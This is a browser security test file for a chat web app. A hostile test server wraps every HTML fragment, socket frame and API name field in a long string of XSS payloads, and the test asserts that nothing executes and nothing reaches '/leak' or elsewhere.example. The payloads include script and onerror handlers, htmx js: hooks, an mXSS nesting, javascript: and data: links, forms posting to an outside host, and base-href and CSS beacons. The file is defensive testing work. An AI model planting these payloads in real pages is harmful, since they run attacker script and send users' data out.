/**
 * R34 from the server's side: markup in everything that it says to a browser, page by page, and another script under the
 * right name. A real Chromium; nothing runs, nothing leaves, and people's words come out as they were written.
 */
import { afterAll, afterEach, beforeAll, expect, test } from 'bun:test';
import type { Browser, Page } from 'playwright-core';
import { setupUrl } from '../../src/contract/paths.ts';
import { loadAssets } from '../../src/embedded.ts';
import { launchBrowser, openPerson, type Person } from '../browser/support/browser.ts';
import {
  composer,
  createWorkspace,
  messages,
  openConversation,
  PATIENCE,
  send,
} from '../browser/support/flows.ts';
import { Client } from './support/client.ts';
import { HostileServer } from './support/server.ts';

/** Put behind every fragment. `/leak` must never be asked for, `ran` never be set. */
const ATTACK = `
  <p class="bitten">bitten</p>
  <script>ran=1;fetch('/leak/script')</script><script src="/leak/src.js"></script>
  <img src="/nothing.png" onerror="ran=1" onload="ran=1"><svg onload="ran=1"><script>ran=1</script><a href="javascript:ran=1">s</a></svg>
  <p hx-on:click="ran=1" hx-on::load="ran=1" hx-on:htmx:after:swap="ran=1">on</p>
  <p hx-get="/leak/get" hx-trigger="load" hx-vals="js:{a:(ran=1)}">vals</p>
  <p hx-get="/leak/every" hx-trigger="every 10ms">every</p><p hx-get="/leak/from" hx-trigger="click from:body">from</p>
  <p hx-post="/leak/include" hx-trigger="load" hx-include="*" hx-headers='js:{"x":(ran=1)}'>include</p>
  <iframe src="/leak/frame" srcdoc="<script>parent.ran=1</script>"></iframe><object data="/leak/object"></object><embed src="/leak/embed">
  <form action="https://elsewhere.example/leak"><input type="password" name="password"><input name="message" aria-label="Message"></form>
  <button formaction="https://elsewhere.example/leak" form="any">go</button><a class="bait" href="javascript:ran=1">bait</a>
  <a class="bait" href="data:text/html,<script>opener.ran=1</script>" target="_blank">data</a>
  <base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=/leak/refresh"><link rel="stylesheet" href="/leak/link">
  <link rel="preload" as="image" href="/leak/preload"><link rel="dns-prefetch" href="//elsewhere.example">
  <style>@import '/leak/style';*{background:url(/leak/css)}</style><p style="background:url(/leak/inline)">style</p>
  <math><mtext><table><mglyph><style><img src=/leak/mxss onerror=ran=1></style></mglyph></table></mtext></math>
  <template shadowrootmode="open"><script>ran=1</script></template><div hx-ws:connect="wss://elsewhere.example/leak"></div>`;
const EVIL = '<img src=/leak/name onerror=ran=1>';

let server: HostileServer;
let browser: Browser;
let ada: Person;
let ben: Client;
const leaks: string[] = [];
const dialogs: string[] = [];

beforeAll(async () => {
  server = await HostileServer.open(await loadAssets());
  browser = await launchBrowser();
  // What is refused on purpose is reported by the browser: handlers and styles, an image that is not there, other bytes.
  ada = await openPerson(browser, {
    expected: /nothing\.png|inline|integrity|status of 4|ERR_|Refused|violates|digest/,
  });
  ada.context.on('request', (request) => {
    const { origin, pathname, protocol } = new URL(request.url());
    if (protocol.startsWith('http') && (origin !== server.url || pathname.startsWith('/leak')))
      leaks.push(request.url());
  });
  ada.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => {});
  });
  const { invites } = server.app.deps.services;
  await createWorkspace(ada.page, setupUrl(server.url, await invites.createSetupToken()));
  ben = await Client.register(server, 'ben');
}, 2 * PATIENCE);
afterEach(async () => {
  server.behave();
  await unharmed(ada.page);
});
afterAll(async () => {
  await ben.close();
  await browser.close();
  await server.close();
});

/** Clicks whatever lures, lets a frame pass, and looks at what was left behind. */
async function unharmed(page: Page): Promise<void> {
  const ran = await page.evaluate(async () => {
    for (const bait of document.querySelectorAll<HTMLElement>('.bait, [hx-on\\:click]')) bait.click();
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    return Reflect.get(globalThis, 'ran');
  });
  expect(ran).toBeUndefined();
  expect(leaks).toEqual([]);
  expect(dialogs).toEqual([]);
}

/** Every fragment and every frame with the attack around it; whole pages stay as they are. */
function poisonAll(): void {
  server.answer(/^\/(?!api\/|assets\/|socket$)/, (text, { headers, sentHeaders }) => {
    const isPage = !sentHeaders.has('hx-request');
    if (isPage || !headers.get('content-type')?.startsWith('text/html')) return text;
    return text.includes('</body>') ? text.replace('</body>', `${ATTACK}</body>`) : text + ATTACK;
  });
  server.frame((frame, { kind }) => {
    if (kind !== 'page') return [frame];
    const json: unknown = JSON.parse(frame);
    const isContent = typeof json === 'object' && json !== null && 'content' in json;
    const poisoned = isContent
      ? JSON.stringify({ ...json, content: `${ATTACK}${json.content}${ATTACK}` })
      : frame;
    return [
      JSON.stringify({ content: ATTACK, target: 'body', swap: 'innerHTML' }),
      JSON.stringify({ content: ATTACK, target: '#conversations', swap: 'outerHTML' }),
      poisoned,
    ];
  });
}

test(
  'another script under the right name does not run: the page stays closed [R34, R35]',
  async () => {
    server.answer(/^\/assets\/island\./, (text) => `globalThis.ran=1;${text}`);
    // A browser that has never been here: no worker stands in between.
    const stranger = await openPerson(browser, { expected: /integrity|digest|ERR_/ });
    const { page } = stranger;
    await ada.context.storageState().then(({ cookies }) => stranger.context.addCookies(cookies));
    await page.goto(server.url);
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
    expect(await composer(page).count()).toBe(0);
    await stranger.context.close();
  },
  2 * PATIENCE,
);

test(
  'markup in every fragment of every page, and in every frame: nothing runs, nothing leaves [R34]',
  async () => {
    const { page } = ada;
    poisonAll();
    await page.goto(server.url);
    await openConversation(page, { name: 'ben', username: 'ben' });
    await send(page, 'hello <b>Ben</b>');
    const { id } = await ben.engine.direct((await ben.engine.people())[0]?.account ?? ben.account);
    await ben.hears(id, 'hello <b>Ben</b>');
    await ben.send(id, EVIL);
    await messages(page, EVIL).waitFor({ timeout: PATIENCE });
    await unharmed(page);
    // The links of the frame, one after the other, each fetched as a fragment.
    const paths = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLAnchorElement>('a[href^="/"]')].map(
        (link) => link.getAttribute('href') ?? '',
      ),
    );
    const seen = new Set<string>();
    let bitten = 0;
    for (const path of ['/settings', '/admin', '/new', ...paths]) {
      if (seen.has(path) || path.startsWith('/sign-out')) continue;
      seen.add(path);
      const link = page.locator(`a[href="${path}"]`).first();
      if ((await link.count()) === 0 || !(await link.isVisible())) continue;
      const swapped = page.waitForResponse((response) => new URL(response.url()).pathname === path, {
        timeout: PATIENCE,
      });
      await link.click();
      await swapped;
      await unharmed(page);
      bitten += await page.locator('.bitten').count();
    }
    expect(seen.size).toBeGreaterThan(2);
    // The part of the attack that is allowed is there: it has been in the page.
    expect(bitten).toBeGreaterThan(0);
  },
  4 * PATIENCE,
);

test(
  'markup in every word of the API is drawn as text, or not at all [R34]',
  async () => {
    const { page } = ada;
    // Names of people and what a person reads: every text that is no id and no base64.
    server.json<unknown>(/^\/api\/v1\/(?:people|directory|conversations|session|workspace)$/, (json) =>
      evil(json),
    );
    const { id } = await ben.engine.direct((await ben.engine.people())[0]?.account ?? ben.account);
    await page.goto(`${server.url}/c/${id}`);
    await composer(page).waitFor({ timeout: PATIENCE });
    await send(page, 'still here');
    await unharmed(page);
  },
  2 * PATIENCE,
);

/** The same JSON with markup in every text that people read. */
function evil(json: unknown): unknown {
  if (Array.isArray(json)) return json.map(evil);
  if (typeof json !== 'object' || json === null) return json;
  return Object.fromEntries(
    Object.entries(json).map(([key, value]) => [key, key === 'name' || key === 'title' ? EVIL : evil(value)]),
  );
}

test(
  'frames that are none leave the page and its line as they were [R34]',
  async () => {
    const { page } = ada;
    await page.goto(server.url);
    await openConversation(page, { name: 'ben', username: 'ben' });
    const { id } = await ben.engine.direct((await ben.engine.people())[0]?.account ?? ben.account);
    const rubbish = [
      '',
      'null',
      '7',
      '[]',
      '{}',
      '{"content":7}',
      '{"content":null,"target":"#nowhere"}',
      '{"channel":"__proto__"}',
      `{"content":"${'<i>'.repeat(5000)}"}`,
      'a'.repeat(1_000_000),
      '<script>ran=1</script>',
      '{"payload":{"envelope":1}}',
      '{"content":"<article data-message=\\"zz\\" data-sender=\\"../..\\"><sealed-message data-seq=\\"NaN\\"></sealed-message></article>","target":"#inbox","swap":"beforeend"}',
    ];
    for (const line of server.lines) if (line.kind === 'page') for (const frame of rubbish) line.say(frame);
    await ben.send(id, 'after all that');
    await messages(page, 'after all that').waitFor({ timeout: PATIENCE });
    await unharmed(page);
  },
  2 * PATIENCE,
);
